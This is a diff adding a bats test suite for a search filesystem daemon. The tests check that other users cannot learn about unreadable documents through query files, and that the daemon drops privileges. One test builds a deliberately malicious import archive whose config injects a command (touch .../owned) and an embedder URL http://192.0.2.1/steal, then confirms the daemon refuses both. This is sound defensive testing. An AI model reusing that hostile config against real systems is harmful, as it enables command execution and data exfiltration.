@@ -1,0 +1,219 @@
+#!/usr/bin/env bats
+# Who may see what, and what the daemon can do at all (fs/doc/threats.md).
+
+load helper
+bats_require_minimum_version 1.5.0
+
+A=12345 # another user
+B=12346
+
+as() {
+	setpriv --reuid "$1" --regid "$1" --clear-groups "${@:2}"
+}
+
+setup() {
+	MNT=$BATS_TEST_TMPDIR/mnt
+	BACKING=$BATS_TEST_TMPDIR/backing
+	mkdir "$MNT"
+	# others must get to the mount point
+	local d=$BATS_TEST_TMPDIR
+	until [[ $d == / ]]; do
+		chmod o+x "$d"
+		d=$(dirname "$d")
+	done
+	start -o allow_other
+	chmod 755 "$MNT"
+}
+
+teardown_file() {
+	chmod o-x /tmp/bats-run-* 2>/dev/null || true
+}
+
+# every virtual file that speaks of documents
+virtual_files() {
+	printf '%s\n' "query/$1" "query/$1 as:json" "query/mode:vector $1" \
+		"query/$1 as:paths" "query/~$1" "query//${1:0:4}/" "recall/$1" \
+		.rankfs/{status,status.json,progress,warnings,metrics,config,events,export} \
+		".rankfs/chunks/secret.md/1" ".rankfs/symbols/$1" .rankfs/similar/secret.md \
+		".rankfs/at/1/query/$1"
+}
+
+# refused_to USER WORD: nothing, not even an empty answer with its counts
+refused_to() {
+	local f
+	while read -r f; do
+		run --separate-stderr as "$1" cat "$MNT/$f"
+		assert_failure
+		assert_output ""
+	done < <(virtual_files "$2")
+	for f in query "find/$2" find .rankfs .rankfs/chunks .rankfs/symbols .rankfs/similar; do
+		run --separate-stderr as "$1" ls "$MNT/$f"
+		assert_failure
+		assert_output ""
+	done
+	run --separate-stderr as "$1" bash -c 'exec 9<>"$1" && echo "$2" >&9 && cat <&9' _ "$MNT/.rankfs/ask" "$2"
+	assert_failure
+	assert_output ""
+}
+
+@test "others see answers while they may read every document" {
+	echo "purple yak" >"$MNT/a.md"
+	run as $A cat "$MNT/query/yak"
+	assert_output --partial a.md
+	run as $A ls "$MNT/find/yak"
+	assert_output --partial a.md
+	run as $A cat "$MNT/.rankfs/status"
+	assert_output --partial "documents 1"
+}
+
+@test "one document that others may not read: no virtual file tells them anything" {
+	echo "purple yak" >"$MNT/a.md"
+	echo "zanzibar" >"$MNT/secret.md"
+	run as $A cat "$MNT/query/zanzibar"
+	assert_output --partial secret.md
+	chmod 600 "$MNT/secret.md"
+	refused_to $A zanzibar
+	run cat "$MNT/query/zanzibar"
+	assert_output --partial secret.md
+	chmod 644 "$MNT/secret.md"
+	run as $A cat "$MNT/query/yak"
+	assert_output --partial a.md
+}
+
+@test "a folder that others may not enter, a document moved into it, one made with a narrow mode" {
+	mkdir "$MNT/d"
+	echo "zanzibar" >"$MNT/d/secret.md"
+	chmod 711 "$MNT/d"
+	refused_to $A zanzibar
+	chmod 755 "$MNT/d"
+	run as $A cat "$MNT/query/zanzibar"
+	assert_success
+	(umask 077 && echo "quetzal" >"$MNT/new.md")
+	refused_to $A quetzal
+	rm "$MNT/new.md"
+	run as $A cat "$MNT/query/zanzibar"
+	assert_success
+	(umask 077 && echo "quetzal" >"$MNT/.new.md.swp")
+	run as $A cat "$MNT/query/zanzibar"
+	assert_success
+	mv "$MNT/.new.md.swp" "$MNT/new.md"
+	refused_to $A quetzal
+}
+
+@test "what is known before the mount counts, too" {
+	echo "zanzibar" >"$MNT/secret.md"
+	chmod 600 "$MNT/secret.md"
+	stop
+	start -o allow_other
+	refused_to $A zanzibar
+}
+
+@test "a user's own document is not for a third" {
+	chmod 777 "$MNT"
+	as $A sh -c 'umask 077; echo zanzibar >"$1"' _ "$MNT/secret.md"
+	refused_to $B zanzibar
+	assert_equal "$(paths zanzibar)" secret.md
+}
+
+@test "a root for one group: its members see what all of them may read" {
+	chown 0:$A "$MNT" && chmod 750 "$MNT"
+	(umask 077 && echo "purple yak" >"$MNT/a.md")
+	run as $A cat "$MNT/query/yak"
+	assert_failure
+	chgrp $A "$MNT/a.md" && chmod 640 "$MNT/a.md"
+	run as $A cat "$MNT/query/yak"
+	assert_output --partial a.md
+	run as $B ls "$MNT"
+	assert_failure
+}
+
+@test "a linked source is for who mounted alone" {
+	mkdir "$BATS_TEST_TMPDIR/src"
+	echo "zanzibar" >"$BATS_TEST_TMPDIR/src/secret.md"
+	ln -s "$BATS_TEST_TMPDIR/src" "$MNT/src"
+	refused_to $A zanzibar
+	eventually 10 found zanzibar
+}
+
+found() { [[ -n $(paths "$1") ]]; }
+
+@test "old checkpoints and lists of what went are for their owner" {
+	echo "zanzibar" >"$MNT/secret.md"
+	chmod 600 "$MNT/secret.md"
+	echo checkpoint >"$MNT/.rankfs/ctl"
+	rm "$MNT/secret.md"
+	run as $A cat "$MNT/query/zanzibar"
+	refute_output --partial secret.md
+	for f in warnings events export at; do
+		run as $A sh -c 'cat "$1" 2>/dev/null || ls "$1"/*' _ "$MNT/.rankfs/$f"
+		refute_output --partial secret.md
+	done
+}
+
+@test "many indexes: one with a wall is not in another's answer" {
+	stop
+	BACKING=$BATS_TEST_TMPDIR/many
+	start -o multi,allow_other
+	for x in one two; do
+		mkdir -m 755 "$MNT/$x"
+		echo "zanzibar $x" >"$MNT/$x/secret.md"
+	done
+	run as $A cat "$MNT/query/zanzibar"
+	assert_output --partial "hits=2/2"
+	chmod 600 "$MNT/one/secret.md"
+	run as $A cat "$MNT/query/zanzibar"
+	assert_output --partial "hits=1/1"
+	refute_output --partial one
+	run as $A cat "$MNT/one/query/zanzibar"
+	assert_failure
+	run cat "$MNT/query/zanzibar"
+	assert_output --partial "hits=2/2"
+}
+
+@test "an archive from elsewhere brings no command and no server" {
+	mkdir -p "$BATS_TEST_TMPDIR/x"
+	cat "$MNT/.rankfs/export" >"$BATS_TEST_TMPDIR/good.tar.zst"
+	cd "$BATS_TEST_TMPDIR/x"
+	zstd -dc ../good.tar.zst | tar xf -
+	printf 'hits 7\nextract.*.zzz /bin/touch %s/owned\nembedder http://192.0.2.1/steal\n' "$BATS_TEST_TMPDIR" >config
+	mkdir -p files && printf 'x\0' >files/a.zzz
+	first=$(zstd -dc ../good.tar.zst | tar tf - | head -1)
+	tar cf - "$first" config files/a.zzz | zstd -q >../evil.tar.zst
+	run cp ../evil.tar.zst "$MNT/.rankfs/import"
+	assert_success
+	run cat "$MNT/.rankfs/config"
+	assert_output --partial "hits 7"
+	refute_output --partial owned
+	refute_output --partial 192.0.2.1
+	eventually 10 indexed
+	assert_not_exist "$BATS_TEST_TMPDIR/owned"
+	run cat "$MNT/.rankfs/warnings"
+	assert_output --partial "left out: extract."
+}
+
+@test "the daemon gives up what it does not need" {
+	run cat "/proc/$(daemon_pid)/status"
+	assert_line --regexp 'NoNewPrivs:.1$'
+	assert_line --regexp 'Seccomp:.2$'
+	# CAP_SYS_MODULE 16, SYS_RAWIO 17, SYS_BOOT 22, NET_ADMIN 12, SETUID 7
+	cap=0x$(sed -n 's/^CapEff:.//p' <<<"$output")
+	bnd=0x$(sed -n 's/^CapBnd:.//p' <<<"$output")
+	for c in 7 12 16 17 22; do
+		assert_equal $(((cap | bnd) >> c & 1)) 0
+	done
+}
+
+@test "helpers cannot gain rights, and have limits" {
+	cat >"$BATS_TEST_TMPDIR/x" <<-'SH'
+	#!/bin/sh
+	grep -E 'NoNewPrivs|CapBnd' /proc/self/status
+	ulimit -v; ulimit -n; ulimit -c
+	SH
+	chmod 755 "$BATS_TEST_TMPDIR/x"
+	echo "extract.*.zzz $BATS_TEST_TMPDIR/x {}" >"$MNT/.rankfs/config"
+	printf 'PK\0\0' >"$MNT/a.zzz"
+	run cat "$MNT/.rankfs/chunks/a.zzz/1"
+	assert_output --regexp 'NoNewPrivs:.1'
+	assert_line 64
+	refute_line unlimited
+}
